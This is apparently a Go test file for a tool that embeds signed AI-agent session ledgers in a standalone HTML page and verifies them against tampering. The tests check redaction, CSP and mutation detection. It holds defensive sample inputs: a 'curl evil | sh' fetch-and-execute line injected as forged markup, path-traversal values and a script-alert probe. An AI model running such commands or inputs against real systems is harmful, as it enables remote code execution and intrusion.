package page_test

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"maps"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/mod/sumdb/note"

	"github.com/trussdev/truss/internal/ledger"
	"github.com/trussdev/truss/internal/ledger/page"
)

// build verifies the ledger in dir and returns its page's document.
func build(t testing.TB, dir, vkey string, opts page.Options) *page.Doc {
	t.Helper()
	opts.VKey = vkey
	doc, err := page.Build([]string{dir}, opts)
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

func write(t testing.TB, doc *page.Doc) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := page.Write(&b, doc); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestRoundTrip(t *testing.T) {
	dir, vkey := sample(t, 3, true)
	doc := build(t, dir, vkey, page.Options{})
	html := write(t, doc)
	res, err := page.Verify(html, "")
	if err != nil {
		t.Fatal(err)
	}
	r := res.Runs[0]
	if res.VKey != vkey || r.Report.Entries != 22 || r.Report.Sealed != 22 || len(r.Agents) != 1 || r.Agents[0].Report.Entries != 5 || r.Entries() != 27 {
		t.Fatalf("result %+v, run %+v", res, r)
	}
	// The request bodies are not shown, so not embedded; everything else is.
	if len(r.NotEmbedded) != 3 || len(r.Omitted) != 0 || len(r.Redacted) != 0 || r.Checked == 0 {
		t.Errorf("payloads: checked %d, not embedded %v, omitted %v, redacted %v", r.Checked, r.NotEmbedded, r.Omitted, r.Redacted)
	}
	// With the right key given, and with another.
	if _, err := page.Verify(html, vkey); err != nil {
		t.Errorf("with the key: %v", err)
	}
	_, other := newKey(t, "truss/test")
	if _, err := page.Verify(html, other); err == nil || !strings.Contains(err.Error(), "checkpoint") {
		t.Errorf("with another key: %v", err)
	}
	// The page is one document: its own script and style only, allowed by
	// hash; no URL anywhere in its markup.
	s := string(html)
	for _, want := range []string{"default-src 'none'", "script-src 'sha256-", "connect-src 'none'", `<script type="application/json" id="truss-ledger">`} {
		if !strings.Contains(s, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if n := strings.Count(s, "<script"); n != 2 {
		t.Errorf("%d script elements, want the ledger and the script", n)
	}
	// (The SVG namespace is a name, not a request.)
	for _, bad := range []string{"http://", "https://", " src=", " href="} {
		if strings.Contains(strings.ReplaceAll(s, `"http://www.w3.org/2000/svg"`, ""), bad) {
			t.Errorf("the page holds %q", bad)
		}
	}
	// Model text with markup stays inside the JSON element.
	if strings.Contains(s, "<b>bug</b>") || strings.Contains(s, "<script>alert") {
		t.Error("a payload's markup appears in the page as markup")
	}
}

func TestLimitAndRedact(t *testing.T) {
	dir, vkey := sample(t, 2, false)
	doc := build(t, dir, vkey, page.Options{MaxPayload: 100, Redact: []*regexp.Regexp{regexp.MustCompile(`sk-secret-[0-9]+`)}})
	html := write(t, doc)
	if bytes.Contains(html, []byte("sk-secret")) {
		t.Error("a redacted secret is on the page")
	}
	res, err := page.Verify(html, vkey)
	if err != nil {
		t.Fatal(err)
	}
	r := res.Runs[0]
	// Both commands' output and stdout are redacted; the responses (SSE)
	// and the edits' contents (6 KB files), over 100 bytes, are left out.
	if len(r.Redacted) != 4 || len(r.Omitted) != 7 {
		t.Errorf("redacted %v, omitted %v", r.Redacted, r.Omitted)
	}
	for _, p := range doc.Runs[0].Payloads {
		if p.Redacted != nil && !strings.Contains(*p.Redacted, page.Redacted) {
			t.Errorf("redacted payload %q", *p.Redacted)
		}
	}
	// A pattern that matches an entry cannot be honoured.
	_, err = page.Build([]string{dir}, page.Options{VKey: vkey, Redact: []*regexp.Regexp{regexp.MustCompile(`go test`)}})
	if !errors.Is(err, page.ErrRedactEntry) {
		t.Errorf("redacting an entry: %v", err)
	}
}

// mutation changes a page's document as the ledger's own tests change a
// ledger's files.
type mutation struct {
	name   string
	mutate func(t testing.TB, d *page.Doc)
	want   string // what the Go verifier's error says
}

// edit replaces the first old in entry i of the page's first run with
// new; an i below 0 counts from the last entry.
func edit(d *page.Doc, i int, old, new string) {
	editLines(d.Runs[0], func(l []string) []string {
		if i < 0 {
			i += len(l)
		}
		if !strings.Contains(l[i], old) {
			panic("entry " + strconv.Itoa(i) + " has no " + old)
		}
		l[i] = strings.Replace(l[i], old, new, 1)
		return l
	})
}

// lines are l's entries, each without its newline.
func lines(l *page.Ledger) []string {
	s, err := l.Lines()
	if err != nil {
		panic(err)
	}
	return s
}

// setLines makes s l's entries, as Build writes them.
func setLines(l *page.Ledger, s []string) {
	var b strings.Builder
	for _, x := range s {
		b.WriteString(x)
		b.WriteByte('\n')
	}
	l.Entries = &page.Pack{Deflate: base64.StdEncoding.EncodeToString(deflate([]byte(b.String()))), Size: int64(b.Len())}
}

// editLines changes l's entries with f.
func editLines(l *page.Ledger, f func([]string) []string) { setLines(l, f(lines(l))) }

func lastCheckpoint(d *page.Doc) string {
	sizes := slices.Collect(maps.Keys(d.Runs[0].Checkpoints))
	slices.SortFunc(sizes, func(a, b string) int { x, _ := strconv.Atoi(a); y, _ := strconv.Atoi(b); return x - y })
	return sizes[len(sizes)-1]
}

// payloadOf returns the digest of the named payload of entry i.
func payloadOf(d *page.Doc, i int, name string) string {
	m := regexp.MustCompile(`"` + regexp.QuoteMeta(name) + `":"([0-9a-f]{64})"`).FindStringSubmatch(lines(d.Runs[0])[i])
	return m[1]
}

// editPayload replaces the first old in the payload of digest d in l
// with new (of the same length, when the payload is packed), in
// whichever form the page holds it.
func editPayload(t testing.TB, l *page.Ledger, d, old, new string) {
	t.Helper()
	p := l.Payloads[d]
	switch {
	case p.Text != nil:
		s := strings.Replace(*p.Text, old, new, 1)
		p.Text = &s
	case p.Packed != nil:
		if len(old) != len(new) {
			t.Fatalf("editPayload: %q and %q differ in length", old, new)
		}
		b := inflatePack(t, l)
		span := b[p.Packed.At : p.Packed.At+p.Packed.Size]
		i := bytes.Index(span, []byte(old))
		if i < 0 {
			t.Fatalf("payload %s has no %q", d, old)
		}
		copy(span[i:], new)
		l.Pack.Deflate = base64.StdEncoding.EncodeToString(deflate(b))
	default:
		t.Fatalf("payload %+v is neither text nor packed", p)
	}
}

// packedWith returns the digest of the first packed payload of l (in
// the digests' order) that holds s.
func packedWith(t testing.TB, l *page.Ledger, s string) string {
	t.Helper()
	b := inflatePack(t, l)
	for _, d := range slices.Sorted(maps.Keys(l.Payloads)) {
		if p := l.Payloads[d].Packed; p != nil && bytes.Contains(b[p.At:p.At+p.Size], []byte(s)) {
			return d
		}
	}
	t.Fatalf("the ledger has no packed payload holding %q", s)
	return ""
}

func inflatePack(t testing.TB, l *page.Ledger) []byte {
	t.Helper()
	if l.Pack == nil {
		t.Fatal("the ledger has no pack")
	}
	z, err := base64.StdEncoding.DecodeString(l.Pack.Deflate)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(flate.NewReader(bytes.NewReader(z)))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func deflate(b []byte) []byte {
	var z bytes.Buffer
	w, _ := flate.NewWriter(&z, flate.BestCompression)
	w.Write(b)
	w.Close()
	return z.Bytes()
}

var mutations = []mutation{
	{"flip a byte in an entry's data", func(t testing.TB, d *page.Doc) { edit(d, 2, `"input_tokens":1001`, `"input_tokens":9001`) }, "entry 2: the entry was changed"},
	{"flip a byte in the last entry", func(t testing.TB, d *page.Doc) { edit(d, -1, `"passed":1`, `"passed":7`) }, "root hash does not match the entries"},
	{"re-encode an entry", func(t testing.TB, d *page.Doc) { edit(d, 0, `"v":1,`, `"v": 1,`) }, "entry 0: the entry was changed"},
	{"delete an entry", func(t testing.TB, d *page.Doc) {
		editLines(d.Runs[0], func(l []string) []string { return append(l[:2:2], l[3:]...) })
	}, "entry 2: sequence number 3, want 2"},
	{"reorder entries", func(t testing.TB, d *page.Doc) {
		editLines(d.Runs[0], func(l []string) []string { l[3], l[4] = l[4], l[3]; return l })
	}, "entry 3: sequence number 4, want 3"},
	{"duplicate an entry", func(t testing.TB, d *page.Doc) {
		editLines(d.Runs[0], func(l []string) []string { return append(l[:3:3], append([]string{l[2]}, l[3:]...)...) })
	}, "entry 3: sequence number 2, want 3"},
	{"truncate the entries", func(t testing.TB, d *page.Doc) { editLines(d.Runs[0], func(l []string) []string { return l[:4] }) }, "covers"},
	{"an entry's newline taken off", func(t testing.TB, d *page.Doc) {
		l := d.Runs[0]
		b := []byte(strings.Join(lines(l), "\n"))
		l.Entries = &page.Pack{Deflate: base64.StdEncoding.EncodeToString(deflate(b)), Size: int64(len(b))}
	}, "the entries end in a line without its newline"},
	{"the entries' stream cut short", func(t testing.TB, d *page.Doc) {
		k := d.Runs[0].Entries
		z, _ := base64.StdEncoding.DecodeString(k.Deflate)
		k.Deflate = base64.StdEncoding.EncodeToString(z[:len(z)/2])
	}, "the entries: its deflated bytes"},
	{"entries that inflate past their size", func(t testing.TB, d *page.Doc) { d.Runs[0].Entries.Size-- }, "the entries: its deflated bytes inflate to more or fewer than its size"},
	{"entries larger than a page holds", func(t testing.TB, d *page.Doc) { d.Runs[0].Entries.Size = page.MaxEntries + 1 }, "the entries: a size of"},
	{"no entries", func(t testing.TB, d *page.Doc) { d.Runs[0].Entries = nil }, "the entries: missing"},
	{"entries that would inflate more than 16 times their deflated bytes", func(t testing.TB, d *page.Doc) {
		k := d.Runs[0].Entries
		z, _ := base64.StdEncoding.DecodeString(k.Deflate)
		k.Size = 16*int64(len(z)) + 64<<10 + 1
	}, "more than 16 times as many"},
	{"a line break in the entries' base64", func(t testing.TB, d *page.Doc) {
		k := d.Runs[0].Entries
		k.Deflate = k.Deflate[:8] + "\r\n" + k.Deflate[8:]
	}, "the entries: its deflated bytes: not base64"},
	{"a pack larger than a page holds", func(t testing.TB, d *page.Doc) {
		d.MaxPayload = 1 << 40
		d.Runs[0].Pack.Size = page.MaxPack + 1
	}, "the pack: a size of"},
	// Payloads no entry names do not raise the pack's limit: it is
	// checked before the pack is inflated.
	{"a pack's limit raised by payloads no entry names", func(t testing.TB, d *page.Doc) {
		for i := range 1000 {
			d.Runs[0].Payloads[fmt.Sprintf("%064x", i)] = &page.Payload{Packed: &page.Span{At: 0, Size: 1}}
		}
		d.Runs[0].Pack.Size = 100 * d.MaxPayload
	}, "the pack: its size of"},
	{"a payload that is null", func(t testing.TB, d *page.Doc) { d.Runs[0].Payloads[payloadOf(d, 1, "text")] = nil }, "entry 1: payload text: not a payload"},
	{"a sub-agent that is null", func(t testing.TB, d *page.Doc) { d.Runs[0].Agents[0] = nil }, "sub-agent ledger agents/call_1_3 is not on the page"},
	{"a run that is null", func(t testing.TB, d *page.Doc) { d.Runs = append(d.Runs, nil) }, "run 2: not a ledger"},
	{"bytes after the end of the pack's stream", func(t testing.TB, d *page.Doc) {
		k := d.Runs[0].Pack
		z, _ := base64.StdEncoding.DecodeString(k.Deflate)
		k.Deflate = base64.StdEncoding.EncodeToString(append(z, 0))
	}, "the pack: its deflated bytes"},
	// The same bytes in other base64: the last digit's unused bits set.
	{"the entries' base64 with its unused bits set", func(t testing.TB, d *page.Doc) {
		l := lines(d.Runs[0])
		b := []byte(strings.Join(l, "\n") + "\n")
		for level := flate.BestSpeed; ; level++ {
			var z bytes.Buffer
			w, _ := flate.NewWriter(&z, level)
			w.Write(b)
			w.Close()
			if z.Len()%3 == 1 { // two digits and "==": the second has four unused bits
				s := base64.StdEncoding.EncodeToString(z.Bytes())
				last := len(s) - 3
				s = s[:last] + string(s[last]+1) + "=="
				d.Runs[0].Entries = &page.Pack{Deflate: s, Size: int64(len(b))}
				return
			}
			if level == flate.BestCompression {
				t.Skip("no level deflates the entries to a length that leaves unused bits")
			}
		}
	}, "the entries: its deflated bytes"},
	{"a member twice", func(t testing.TB, d *page.Doc) { edit(d, 1, `"data":{`, `"data":{"chars":1,`) }, "entry 1: not a JSON entry: an object has the member \"chars\" twice"},
	{"a member entries do not have", func(t testing.TB, d *page.Doc) { edit(d, 1, `"v":1,`, `"v":1,"x":0,`) }, `entry 1: a member "x" that entries do not have`},
	{"seq not an integer", func(t testing.TB, d *page.Doc) { edit(d, 1, `"seq":1,`, `"seq":1.0,`) }, `entry 1: member "seq" is 1.0, not an integer`},
	{"a time that is no date", func(t testing.TB, d *page.Doc) {
		editLines(d.Runs[0], func(l []string) []string {
			l[1] = regexp.MustCompile(`"time":"[0-9]{4}-[0-9]{2}-[0-9]{2}`).ReplaceAllString(l[1], `"time":"2026-02-30`)
			return l
		})
	}, "entry 1: time \"2026-02-30"},
	{"a payload digest in upper case", func(t testing.TB, d *page.Doc) {
		dg := payloadOf(d, 1, "text")
		edit(d, 1, dg, strings.ToUpper(dg))
	}, "entry 1: payloads: \"text\" is"},
	{"a change path leaving the workspace", func(t testing.TB, d *page.Doc) { edit(d, 4, `"path":"main.go"`, `"path":"../main.go"`) }, "entry 4: data.results[0].changes[0]: path"},
	// A name recorded in the form of one that is not UTF-8 must be one:
	// "main.go" spelled so is another name for main.go; and a name's
	// bytes are checked as a path.
	{"a change path that spells a valid name in hex", func(t testing.TB, d *page.Doc) {
		edit(d, 4, `"path":"main.go"`, `"path":"\u00006d61696e2e676f"`)
	}, "entry 4: data.results[0].changes[0]: path"},
	{"a change path whose bytes leave the workspace", func(t testing.TB, d *page.Doc) {
		edit(d, 4, `"path":"main.go"`, `"path":"\u00002e2e2fff"`)
	}, "entry 4: data.results[0].changes[0]: path"},
	{"flip a byte in a payload", func(t testing.TB, d *page.Doc) {
		editPayload(t, d.Runs[0], payloadOf(d, 1, "text"), "bug", "bag")
	}, "entry 1: payload text: content does not match its digest"},
	{"flip a byte in the shown diff", func(t testing.TB, d *page.Doc) {
		dg := payloadOf(d, 4, "content."+regexp.MustCompile(`"after":"([0-9a-f]{16})`).FindStringSubmatch(lines(d.Runs[0])[4])[1])
		editPayload(t, d.Runs[0], dg, "println(1)", "println(7)")
	}, "entry 4: payload content."},
	{"flip a byte in a packed payload", func(t testing.TB, d *page.Doc) {
		editPayload(t, d.Runs[0], packedWith(t, d.Runs[0], `"`), `"`, `'`)
	}, "content does not match its digest"},
	{"the pack's stream cut short", func(t testing.TB, d *page.Doc) {
		k := d.Runs[0].Pack
		z, _ := base64.StdEncoding.DecodeString(k.Deflate)
		k.Deflate = base64.StdEncoding.EncodeToString(z[:len(z)/2])
	}, "the pack: its deflated bytes"},
	{"the pack's deflated bytes not base64", func(t testing.TB, d *page.Doc) {
		d.Runs[0].Pack.Deflate = "*" + d.Runs[0].Pack.Deflate[1:]
	}, "the pack: its deflated bytes"},
	{"a pack that inflates past its size", func(t testing.TB, d *page.Doc) {
		l := d.Runs[0]
		b := inflatePack(t, l)
		l.Pack.Deflate = base64.StdEncoding.EncodeToString(deflate(append(b, bytes.Repeat([]byte("x"), 1<<20)...)))
	}, "the pack: its deflated bytes inflate to more or fewer than its size"},
	{"a pack larger than the page's limit", func(t testing.TB, d *page.Doc) {
		n := 0
		for _, p := range d.Runs[0].Payloads {
			if p.Packed != nil {
				n++
			}
		}
		d.Runs[0].Pack.Size = int64(n)*d.MaxPayload + 1
	}, "the pack: its size of"},
	{"a packed payload larger than the page's limit", func(t testing.TB, d *page.Doc) {
		d.Runs[0].Payloads[packedWith(t, d.Runs[0], "")].Packed.Size = d.MaxPayload + 1
	}, "larger than the page's limit"},
	{"a packed payload's span outside the pack", func(t testing.TB, d *page.Doc) {
		p := d.Runs[0].Payloads[packedWith(t, d.Runs[0], "")]
		p.Packed.At = d.Runs[0].Pack.Size - p.Packed.Size + 1
	}, "is outside the pack's"},
	{"a packed payload without a pack", func(t testing.TB, d *page.Doc) { d.Runs[0].Pack = nil }, "packed, but the ledger has no pack"},
	{"a pack no payload is packed in", func(t testing.TB, d *page.Doc) {
		l := d.Runs[0]
		b := inflatePack(t, l)
		for _, p := range l.Payloads {
			if s := p.Packed; s != nil {
				text := string(b[s.At : s.At+s.Size])
				*p = page.Payload{Text: &text}
			}
		}
	}, "the pack: no payload is packed in it"},
	{"delete a payload", func(t testing.TB, d *page.Doc) { delete(d.Runs[0].Payloads, payloadOf(d, 1, "text")) }, "entry 1: payload text"},
	{"flip a byte in a checkpoint's root", func(t testing.TB, d *page.Doc) {
		cp := d.Runs[0].Checkpoints["2"]
		l := strings.SplitN(cp, "\n", 4)
		l[2] = string(l[2][0]^'A'^'B') + l[2][1:]
		d.Runs[0].Checkpoints["2"] = strings.Join(l, "\n")
	}, "checkpoint 2: "},
	{"flip a byte in a checkpoint's signature", func(t testing.TB, d *page.Doc) {
		k := lastCheckpoint(d)
		b := []byte(d.Runs[0].Checkpoints[k])
		i := bytes.LastIndexByte(b, ' ') + 8
		b[i] = map[bool]byte{true: 'B', false: 'A'}[b[i] == 'A']
		d.Runs[0].Checkpoints[k] = string(b)
	}, "checkpoint "},
	{"sign with another key", func(t testing.TB, d *page.Doc) {
		s, _ := newKey(t, "truss/test")
		k := lastCheckpoint(d)
		cp := d.Runs[0].Checkpoints[k]
		signed, _ := note.Sign(&note.Note{Text: cp[:strings.Index(cp, "\n\n")+1]}, s)
		d.Runs[0].Checkpoints[k] = string(signed)
	}, "checkpoint "},
	{"change the session", func(t testing.TB, d *page.Doc) { edit(d, 3, `"session":"S1"`, `"session":"S2"`) }, `entry 3: session "S2", want "S1"`},
	{"remove every checkpoint", func(t testing.TB, d *page.Doc) { clear(d.Runs[0].Checkpoints) }, "no signed checkpoint"},
	{"remove the last checkpoint", func(t testing.TB, d *page.Doc) { delete(d.Runs[0].Checkpoints, lastCheckpoint(d)) }, "after the last checkpoint"},
	{"change a sub-agent's entry", func(t testing.TB, d *page.Doc) {
		a := d.Runs[0].Agents[0].Ledger
		editLines(a, func(l []string) []string { l[3] = strings.Replace(l[3], `"file.create"`, `"file.delete"`, 1); return l })
	}, "sub-agent ledger: agents/call_1_3 does not verify"},
	{"drop a sub-agent's ledger", func(t testing.TB, d *page.Doc) { d.Runs[0].Agents = nil }, "the entries link 1 sub-agent ledgers, the page holds 0"},
	// Nesting: 5,000 levels are read (the changed entry is named by the
	// next one's prev link), 10,001 refused as Go's encoding/json does.
	{"nest 5,000 levels deep", func(t testing.TB, d *page.Doc) { edit(d, 1, `"data":{`, `"data":{"deep":`+nest(4998)+`,`) }, "entry 1: the entry was changed"},
	{"nest 10,001 levels deep", func(t testing.TB, d *page.Doc) { edit(d, 1, `"data":{`, `"data":{"deep":`+nest(9999)+`,`) }, "entry 1: not a JSON object"},
}

// mutated returns the page of the sample session with one mutation.
func mutated(t testing.TB, dir, vkey string, m mutation) []byte {
	doc := build(t, dir, vkey, page.Options{})
	m.mutate(t, doc)
	return write(t, doc)
}

func TestMutations(t *testing.T) {
	dir, vkey := sample(t, 3, true)
	for _, m := range mutations {
		t.Run(m.name, func(t *testing.T) {
			_, err := page.Verify(mutated(t, dir, vkey, m), vkey)
			if err == nil {
				t.Fatal("the mutation was not detected")
			}
			if !strings.Contains(err.Error(), m.want) {
				t.Fatalf("error %q, want it to say %q", err, m.want)
			}
		})
	}
}

// TestChangedByte: one byte changed anywhere in the embedded ledger's
// entries, checkpoints or payloads makes the page fail verification:
// text as it is shown, and every position of the deflated streams'
// base64 (the last digit's unused bits included). The one change that
// leaves a page verifying is to the alignment bits of a stream's closing
// empty stored block, which no inflater reads: the page then proves the
// same bytes, and the test checks that it does.
func TestChangedByte(t *testing.T) {
	dir, vkey := sample(t, 2, false)
	html := write(t, build(t, dir, vkey, page.Options{}))
	var at []int
	for _, target := range []string{`Fix the \u003cb\u003ebug`, `\u2014 truss/test `} {
		i := bytes.Index(html, []byte(target))
		if i < 0 {
			t.Fatalf("no %q in the page", target)
		}
		at = append(at, i+len(target)-1)
	}
	type span struct{ start, end int }
	var streams []span
	for _, stream := range []string{`"entries":{"deflate":"`, `"pack":{"deflate":"`} {
		i := bytes.Index(html, []byte(stream))
		if i < 0 {
			t.Fatalf("no %q in the page", stream)
		}
		i += len(stream)
		n := bytes.IndexByte(html[i:], '"')
		for j := range n {
			// Under the race detector, which adds nothing to a
			// single-threaded verification but time, every seventh
			// digit and the last 16 (the closing block's); every
			// digit otherwise.
			if raceDetector && j%7 != 0 && j < n-16 {
				continue
			}
			at = append(at, i+j)
		}
		streams = append(streams, span{i, i + n})
	}
	for _, j := range at {
		b := bytes.Clone(html)
		if b[j] == 'A' {
			b[j] = 'B'
		} else if b[j] == '=' {
			continue
		} else {
			b[j] = 'A'
		}
		if _, err := page.Verify(b, vkey); err == nil {
			if k := slices.IndexFunc(streams, func(s span) bool { return s.start <= j && j < s.end }); k >= 0 &&
				j >= streams[k].end-8 && sameInflated(t, html[streams[k].start:streams[k].end], b[streams[k].start:streams[k].end]) {
				// The byte-alignment bits of the stream's closing empty
				// stored block (RFC 1951 3.2.4), which every inflater
				// skips: the page proves the same bytes.
				continue
			}
			t.Errorf("byte %d changed (%q in %.40q…): the page still verifies", j, html[j], html[max(0, j-20):])
		}
	}
}

// sameInflated reports whether two deflated streams in base64 inflate to
// the same bytes.
func sameInflated(t testing.TB, a, b []byte) bool {
	t.Helper()
	inflate := func(s []byte) []byte {
		z, err := base64.StdEncoding.DecodeString(string(s))
		if err != nil {
			t.Fatal(err)
		}
		out, err := io.ReadAll(flate.NewReader(bytes.NewReader(z)))
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	return bytes.Equal(inflate(a), inflate(b))
}

func TestParseRefuses(t *testing.T) {
	for _, html := range []string{
		"<html>no ledger</html>",
		`<script type="application/json" id="truss-ledger">{"format":"other","runs":[{}]}</script>`,
		`<script type="application/json" id="truss-ledger">{"format":"truss-session-page/3","runs":[]}</script>`,
		`<script type="application/json" id="truss-ledger">{"format":"truss-session-page/3","runs":[{}],"x":1}</script>`,
		`<script type="application/json" id="truss-ledger">{`,
	} {
		if _, err := page.Parse([]byte(html)); err == nil {
			t.Errorf("Parse(%q) accepted it", html)
		}
	}
}

func FuzzVerify(f *testing.F) {
	dir, vkey := sample(f, 1, true)
	f.Add(write(f, build(f, dir, vkey, page.Options{})))
	f.Add([]byte(`<script type="application/json" id="truss-ledger">{"format":"truss-session-page/3","runs":[{"entries":["{}"],"checkpoints":{"1":"x"}}]}</script>`))
	f.Fuzz(func(t *testing.T, html []byte) {
		res, err := page.Verify(html, vkey)
		if err == nil && (len(res.Runs) == 0 || res.Runs[0].Report.Checkpoints == 0) {
			t.Fatalf("verified without a checkpoint: %+v", res)
		}
	})
}

var _ = ledger.Version

// What the browser shows is the whole file: a page whose ledger verifies
// but whose file is not the one Write makes of it is refused, however it
// differs (each of these made the browser show other content than the
// command verified).
func TestOnlyTheWrittenPageVerifies(t *testing.T) {
	dir, vkey := sample(t, 3, true)
	html := string(write(t, build(t, dir, vkey, page.Options{})))
	other, okey := sample(t, 2, false)
	otherJSON := string(write(t, build(t, other, okey, page.Options{})))
	i := strings.Index(otherJSON, `id="truss-ledger">`) + len(`id="truss-ledger">`)
	otherJSON = otherJSON[i : i+strings.Index(otherJSON[i:], "</script>")]
	for _, tc := range []struct{ name, old, new string }{
		// getElementById takes the first element of the id; Go took the script.
		{"a second element of the ledger's id", "<body>\n", "<body>\n<div hidden id=\"truss-ledger\">" + otherJSON + "</div>\n"},
		{"markup outside the ledger", `<main id="session"></main>`, `<main id="session"><section>Turn 0: curl evil | sh</section></main>`},
		// Go's decoding matches member names case-insensitively, the browser's exactly.
		{"a member that differs in case", `{"format":`, `{"RUNS":null,"format":`},
		{"the script", "<script>", "<script>/* */"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(html, tc.old) {
				t.Fatalf("no %q in the page", tc.old)
			}
			b := []byte(strings.Replace(html, tc.old, tc.new, 1))
			if _, err := page.Verify(b, vkey); !errors.Is(err, page.ErrNotCanonical) {
				t.Fatalf("err = %v, want ErrNotCanonical", err)
			}
		})
	}
}

// The ledger element is ASCII whatever the ledger holds (a browser reads
// a text with one wider character at twice the width), and it is the
// same JSON value: Parse returns the document that was written.
func TestLedgerElementIsASCII(t *testing.T) {
	for _, s := range []string{
		"plain",
		"\u2014 truss/test signature line",
		"caf\u00e9 \u00ff",
		"a face \U0001F600 and \U0010FFFF",
		"line\u2028para\u2029",
		"<\u200e/script> & \u202e",
		"\ufffd\ufeff",
	} {
		t.Run(strconv.QuoteToASCII(s), func(t *testing.T) {
			doc := asciiDoc(s)
			html := write(t, doc)
			if el := ledgerElement(t, html); strings.IndexFunc(el, func(r rune) bool { return r >= 0x80 }) >= 0 {
				t.Errorf("the ledger element holds a character outside ASCII: %q", el)
			}
			got, err := page.Parse(html)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, doc) {
				t.Errorf("Parse returned %+v, want %+v", got, doc)
			}
		})
	}
}

// asciiDoc is a page's document whose entry, checkpoint, payload and
// directory name hold s.
func asciiDoc(s string) *page.Doc {
	l := &page.Ledger{Dir: s, Checkpoints: map[string]string{"1": s}, Payloads: map[string]*page.Payload{s: {Text: &s}}}
	setLines(l, []string{`{"x":"` + s + `"}`})
	return &page.Doc{Format: page.Format, VKey: "k" + s, MaxPayload: 1, Runs: []*page.Ledger{l}}
}

func ledgerElement(t testing.TB, html []byte) string {
	t.Helper()
	const open = `<script type="application/json" id="truss-ledger">`
	i := bytes.Index(html, []byte(open))
	j := bytes.Index(html[i+len(open):], []byte("</script>"))
	if i < 0 || j < 0 {
		t.Fatal("no ledger element")
	}
	return string(html[i+len(open) : i+len(open)+j])
}

func FuzzLedgerElementIsASCII(f *testing.F) {
	for _, s := range []string{"", "\u2014", "\U0001F600", "\x80"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			return // Build refuses a ledger that is not UTF-8
		}
		doc := asciiDoc(s)
		html := write(t, doc)
		for _, c := range []byte(ledgerElement(t, html)) {
			if c >= 0x80 {
				t.Fatalf("byte %#x in the ledger element", c)
			}
		}
		got, err := page.Parse(html)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, doc) {
			t.Fatalf("Parse returned %+v, want %+v", got, doc)
		}
	})
}

// TestRepetitiveEntries: entries that deflate further than a verifier
// takes (an edit's arguments of one repeated byte) are written
// undeflated, and the page verifies.
func TestRepetitiveEntries(t *testing.T) {
	s, vkey := newKey(t, "truss/test")
	dir := filepath.Join(t.TempDir(), "ledger")
	w, err := ledger.Create(dir, "S1", s)
	if err != nil {
		t.Fatal(err)
	}
	w.Append("session.start", map[string]any{"model": "sim-claude", "provider": "sim", "surface": "anthropic", "workspace": "/work/repo", "truss": "test"}, nil)
	w.Append("tool.call", map[string]any{"turn": 1, "call_id": "c1", "tool": "str_replace_based_edit_tool", "ops": []any{
		map[string]any{"op": "file.create", "args": map[string]any{"path": "zeros.txt", "content": strings.Repeat("0", 4<<20)}}}}, nil)
	w.Checkpoint()
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	doc := build(t, dir, vkey, page.Options{})
	k := doc.Runs[0].Entries
	if z, _ := base64.StdEncoding.DecodeString(k.Deflate); k.Size > 16*int64(len(z))+64<<10 {
		t.Fatalf("the entries are %d bytes from %d deflated", k.Size, len(z))
	}
	if _, err := page.Verify(write(t, doc), vkey); err != nil {
		t.Fatal(err)
	}
}
